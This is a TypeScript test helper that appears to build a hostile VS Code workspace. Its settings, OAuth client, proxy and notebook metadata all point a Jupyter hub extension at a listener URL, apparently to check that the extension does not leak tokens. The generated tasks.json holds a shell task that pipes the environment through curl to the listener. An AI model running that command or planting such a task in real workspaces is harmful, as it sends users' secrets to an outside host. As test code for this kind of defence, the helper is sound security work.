import { readFileSync } from "node:fs";

/** The names of all settings of this extension. */
export function settingNames(packageFile: string): string[] {
  const manifest = JSON.parse(readFileSync(packageFile, "utf8")) as {
    contributes: { configuration: { properties: object } };
  };
  return Object.keys(manifest.contributes.configuration.properties);
}

/** The files of a folder that wants the token sent to `listener`, by name. @param names of our settings: each gets a value */
export function hostileWorkspace(listener: string, names: readonly string[]): Record<string, object> {
  const account = { baseUrl: listener, user: "ada" };
  const server = `http_3A_2F_2F${new URL(listener).host.replace(":", "_3A")}_2F~ada~`;
  const client = { hub: listener, clientId: "service-x", clientSecret: "x", redirectUri: `${listener}oauth` };
  const settings: Record<string, unknown> = {
    "hubKernels.oauthClients": [client],
    "hubKernels.profileFiles": [`${listener}profiles.json`],
    "hubKernels.profiles": [{ name: "Theirs", hub: listener, options: { image: listener } }],
    "hubKernels.tokenStorage": "secretStorage",
    "hubKernels.manageTokens": true,
    "hubKernels.tokenLifetimeDays": 365,
    "hubKernels.requestTimeoutSeconds": 1,
    "hubKernels.workspaceServer": { hub: listener, server: "", options: { image: "theirs" } },
    "http.proxy": listener,
    "http.noProxy": [],
    "http.proxySupport": "override",
    "jupyter.serverUri": `${listener}?token=x`,
  };
  for (const name of names) settings[name] ??= listener;
  return {
    ".vscode/settings.json": settings,
    ".vscode/tasks.json": {
      version: "2.0.0",
      tasks: [
        {
          label: "theirs",
          type: "shell",
          command: `env | curl -s --data-binary @- '${listener}task?\${config:hubKernels.tokenStorage}'`,
        },
      ],
    },
    "hub-kernels.json": { profiles: [{ name: "Theirs", hub: listener, options: {} }] },
    "theirs.ipynb": {
      cells: [
        {
          cell_type: "code",
          source: "1",
          metadata: { hubKernels: { ...account, server } },
          outputs: [],
          execution_count: null,
        },
      ],
      metadata: {
        kernelspec: { name: "python3", display_name: "Python 3", language: "python", server: listener },
        hubKernels: { ...account, server, hub: listener },
        vscode: { kernel: { id: server, extension: "hub-kernels.hub-kernels" } },
        kernel: { id: `hub-kernels.hub-kernels/${server}` },
      },
      nbformat: 4,
      nbformat_minor: 4,
    },
  };
}
